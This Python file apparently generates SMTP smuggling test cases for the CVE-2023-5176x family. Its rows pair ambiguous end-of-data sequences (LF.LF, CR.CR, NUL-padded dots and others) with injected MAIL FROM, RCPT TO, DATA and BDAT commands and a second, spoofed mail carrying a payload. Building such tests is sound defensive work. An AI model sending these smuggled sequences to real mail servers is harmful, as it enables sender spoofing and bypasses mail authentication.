"""SMTP smuggling: an end of data that only some servers take for one, and a second mail behind it (CVE-2023-51764,
-51765, -51766). The server that takes it for the end delivers the second mail, with the payload in it."""

from ambiguity_base import CRLF, CTE, HEAD, LF, base64_of, edit
from ambiguity_headers import BASE64

TEXT = HEAD + "MIME-Version: 1.0\nContent-Type: text/plain; charset=us-ascii\n\nfirst mail"

# Servers that were found with each are named in the advisories: what they take for the end of the data.
DOTS = [
    ("lf-dot-lf", LF + "." + LF, "end the data at LF . LF"),
    ("lf-dot-crlf", LF + ".\n", "end the data at LF . CRLF"),
    ("crlf-dot-lf", "\n." + LF, "end the data at CRLF . LF"),
    ("cr-dot-cr", "\r.\r", "end the data at CR . CR"),
    ("cr-dot-crlf", "\r.\n", "end the data at CR . CRLF"),
    ("crlf-dot-cr", "\n.\r", "end the data at CRLF . CR"),
    ("lf-dot-cr", LF + ".\r", "end the data at LF . CR"),
    ("cr-dot-lf", "\r." + LF, "end the data at CR . LF"),
    ("crlf-nul-dot-crlf", "\n\0.\n", "drop NUL"),
    ("crlf-dot-nul-crlf", "\n.\0\n", "drop NUL"),
    ("crcrlf-dot-crcrlf", "\r\n.\r\n", "drop CR before a line end"),
]

COMMANDS = "MAIL FROM:<admin@example.jp>\nRCPT TO:<smuggled@example.jp>\nDATA\n"


def second(context):
    return context.fill('From: admin@example.jp\nTo: user@example.jp\nSubject: second of @X@\nMIME-Version: 1.0\n'
                        'Content-Type: @T@; name="@N@"\n' f"{CTE}: base64\n\n") + base64_of(context.payload)


def smuggled(name, reader, dot, commands=COMMANDS, ends=(CRLF,), text=TEXT, mail=second, **more):
    return edit("smuggled-" + name, "mime.smuggling", reader, encodings=BASE64, ends=ends,
                whole=lambda c: c.fill(text) + dot + commands + mail(c), **more)


def short(context):
    return context.fill("From: admin@example.jp\nSubject: second of @X@\n\nsecond text\n")


ROWS = [
    *(smuggled(name, reader, dot) for name, dot, reader in DOTS),
    # Without commands: the header block says what it is.
    *(smuggled("headers-" + name, reader, dot, commands="Received: from a by b; Mon, 05 Jan 2026 10:00:00 +0900\n")
      for name, dot, reader in DOTS),
    *(smuggled("text-" + name, reader, dot, mail=short, payload=None) for name, dot, reader in DOTS[:4]),
    smuggled("lower-case", DOTS[0][2], DOTS[0][1],
             "mail from:<admin@example.jp>\nrcpt to:<smuggled@example.jp>\ndata\n"),
    smuggled("greeting", DOTS[0][2], DOTS[0][1], "EHLO a.example.net\n" + COMMANDS),
    smuggled("reset", DOTS[1][2], DOTS[1][1], "RSET\n" + COMMANDS),
    smuggled("second-dot", DOTS[1][2], LF + ".\nno mail\n\nof any kind" + DOTS[1][1]),
    smuggled("parameters", DOTS[1][2], DOTS[1][1],
             "MAIL FROM:<admin@example.jp> BODY=8BITMIME\nRCPT TO:<smuggled@example.jp>\nDATA\n"),
    smuggled("bdat", DOTS[1][2], DOTS[1][1],
             "MAIL FROM:<admin@example.jp>\nRCPT TO:<smuggled@example.jp>\nBDAT 100000 LAST\n"),
    smuggled("two-recipients", DOTS[0][2], DOTS[0][1], "MAIL FROM:<admin@example.jp>\nRCPT TO:<smuggled@example.jp>\n"
             "RCPT TO:<smuggled@example.jp>\nDATA\n"),
    smuggled("null-sender", DOTS[0][2], DOTS[0][1], "MAIL FROM:<>\nRCPT TO:<smuggled@example.jp>\nDATA\n"),
    smuggled("bare-line-ends", DOTS[0][2], DOTS[0][1], COMMANDS.replace("\n", LF)),
    # A stored message with LF alone: a line with one dot, and commands behind it.
    smuggled("stored", "send the message on with its line ends and dots as they are", "\n.\n", ends=("\n",)),
    smuggled("stored-headers", "send the message on with its line ends and dots as they are", "\n.\n", ends=("\n",),
             commands="Received: from a by b; Mon, 05 Jan 2026 10:00:00 +0900\n"),
]
GROUP = "smuggling"
